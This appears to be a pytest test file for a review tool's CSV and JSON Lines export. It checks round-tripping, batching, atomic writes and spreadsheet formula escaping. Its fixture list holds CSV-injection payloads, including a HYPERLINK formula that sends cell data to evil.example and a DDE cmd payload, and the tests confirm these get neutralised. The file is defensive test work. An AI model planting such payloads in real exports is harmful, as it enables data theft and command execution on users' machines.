"""`reviewbot export`: items, themes and tickets as CSV and JSON Lines that read back as written, safe to open in a
spreadsheet, streamed in batches, and never half-written."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

import reviewbot.workflows.export
from reviewbot.workflows.export import FORMULA_START, safe_cell

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3 refund please",
    "@SUM(1+1) my parcel",
    "\tTabbed complaint about the parcel",
]


@pytest.fixture
def demo(demo: Path, cli) -> Path:  # type: ignore[no-untyped-def]
    """The demo workspace (tests/conftest.py) with a complaint export of hostile texts, synced."""
    with (demo / "inbox" / "complaints" / "hostile.csv").open("w", newline="", encoding="utf-8") as fh:
        writer = csv.writer(fh)
        writer.writerow(["complaint_id", "received_at", "customer_id", "channel", "category", "description"])
        for i, text in enumerate(HOSTILE):
            writer.writerow([f"X-{i}", "2026-11-20 10:00", "CUST-1", "email", "=1+1" if i == 0 else "Parcel", text])
    assert cli("sync").code == 0
    return demo


def _unescape(cell: str) -> str:
    return cell[1:] if cell.startswith("'") and cell[1:].startswith(FORMULA_START) else cell


def _as_text(value: object) -> str:
    if value is None:
        return ""
    return json.dumps(value, ensure_ascii=False) if isinstance(value, list | dict) else str(value)


@pytest.mark.parametrize("kind", ["items", "themes", "tickets"])
def test_csv_and_jsonl_round_trip(demo: Path, cli, kind: str) -> None:  # type: ignore[no-untyped-def]
    assert cli(f"export {kind} --format csv --output {kind}.csv").code == 0
    assert cli(f"export {kind} --format jsonl -o {kind}.jsonl").code == 0
    with open(demo / f"{kind}.csv", newline="", encoding="utf-8") as fh:
        from_csv = list(csv.DictReader(fh))
    from_jsonl = [json.loads(line) for line in (demo / f"{kind}.jsonl").read_text(encoding="utf-8").splitlines()]
    listed = json.loads(cli(f"{kind if kind != 'items' else 'themes'} list --json").stdout)
    assert len(from_csv) == len(from_jsonl) > 0
    if kind == "tickets":
        assert {r["ref"] for r in from_jsonl} == {t["tracker_ref"] for t in listed}
    for row, record in zip(from_csv, from_jsonl, strict=True):
        extra = record.pop("extra", {})
        assert {k: _unescape(v) for k, v in row.items() if not k.startswith("extra.")} == {
            k: _as_text(v) for k, v in record.items()
        }
        assert {k[len("extra.") :]: _unescape(v) for k, v in row.items() if k.startswith("extra.") and v} == {
            k: _as_text(v) for k, v in extra.items()
        }


def test_items_carry_theme_section_sentiment_and_extra_columns(demo: Path, cli) -> None:  # type: ignore[no-untyped-def]
    items = [json.loads(line) for line in cli("export items -f jsonl").stdout.splitlines()]
    assert len(items) == json.loads(cli("status --json").stdout)["sources"][0]["items"] + sum(
        s["items"] for s in json.loads(cli("status --json").stdout)["sources"][1:]
    )
    chat = next(i for i in items if i["theme"] and "chat" in i["theme"])
    assert chat["section"].startswith("customer-service-policy/") and chat["sentiment"] in ("negative", "neutral")
    assert {i["sentiment"] for i in items} == {"negative", "neutral", "positive"}
    assert items[0]["extra"]["category"]  # the demo's extra column
    header = next(csv.reader(io.StringIO(cli("export items").stdout)))
    assert {"theme", "section", "sentiment", "extra.category", "extra.case"} <= set(header)


def test_csv_cells_cannot_run_as_formulas(demo: Path, cli) -> None:  # type: ignore[no-untyped-def]
    rows = list(csv.DictReader(io.StringIO(cli("export items").stdout)))
    hostile = [r for r in rows if r["external_id"].startswith("X-")]
    assert [r["text"] for r in hostile[:4]] == ["'" + t for t in HOSTILE[:4]]
    assert hostile[4]["text"] == HOSTILE[4].strip()  # ingestion already trimmed the leading tab
    assert hostile[0]["extra.category"] == "'=1+1"
    for row in rows:
        assert not any(cell.startswith(FORMULA_START) for cell in row.values() if cell[:1] != "-" or cell[1:2] == "")
    assert float(next(r["polarity"] for r in rows if r["polarity"].startswith("-"))) < 0  # numbers stay numbers
    jsonl = [json.loads(line) for line in cli("export items -f jsonl").stdout.splitlines()]
    stored = [i["text"] for i in jsonl if i["external_id"].startswith("X-")]
    assert stored[:4] == HOSTILE[:4]  # JSON is left as written
    assert safe_cell("=1") == "'=1" and safe_cell("a=1") == "a=1" and safe_cell(-1.5) == -1.5


def test_records_are_read_in_batches(demo: Path, cli, monkeypatch: pytest.MonkeyPatch) -> None:  # type: ignore[no-untyped-def]
    whole = cli("export items -f jsonl").stdout
    reads: list[int] = []
    original = reviewbot.workflows.export._batches

    def counting(store, model, build):  # type: ignore[no-untyped-def]
        def counted(session, records):  # type: ignore[no-untyped-def]
            reads.append(len(records))
            return build(session, records)

        return original(store, model, counted)

    monkeypatch.setattr(reviewbot.workflows.export, "BATCH", 7)
    monkeypatch.setattr(reviewbot.workflows.export, "_batches", counting)
    assert cli("export items -f jsonl").stdout == whole  # same rows, same order
    assert max(reads) == 7 and sum(reads) == len(whole.splitlines()) and len(reads) > 10


def test_a_failed_export_leaves_no_file(demo: Path, cli, monkeypatch: pytest.MonkeyPatch) -> None:  # type: ignore[no-untyped-def]
    (demo / "items.csv").write_text("the previous export\n", encoding="utf-8")

    original = reviewbot.workflows.export.item_rows

    def broken(store):  # type: ignore[no-untyped-def]
        for number, row in enumerate(original(store)):
            if number == 50:
                raise OSError("disk full")
            yield row

    monkeypatch.setattr(reviewbot.workflows.export, "item_rows", broken)
    full = cli("export items -o items.csv")  # an error message, not a traceback
    assert full.code == 2 and "items.csv: cannot write the export: disk full" in full.stderr
    assert (demo / "items.csv").read_text(encoding="utf-8") == "the previous export\n"
    assert [p.name for p in demo.iterdir() if p.name.startswith(".items.csv")] == []
    missing = cli("export items -o nowhere/items.csv")
    assert missing.code == 2 and "no folder" in missing.stderr
    folder = cli(f"export items -o {demo}")  # was written whole beside the folder, then a traceback
    assert folder.code == 2 and f"{demo} is a folder" in folder.stderr
    assert [p.name for p in demo.parent.iterdir() if p.name.startswith(f".{demo.name}.")] == []


def test_bad_arguments_are_usage_errors(demo: Path, cli) -> None:  # type: ignore[no-untyped-def]
    assert cli("export people").code == 2
    assert cli("export items --format xlsx").code == 2
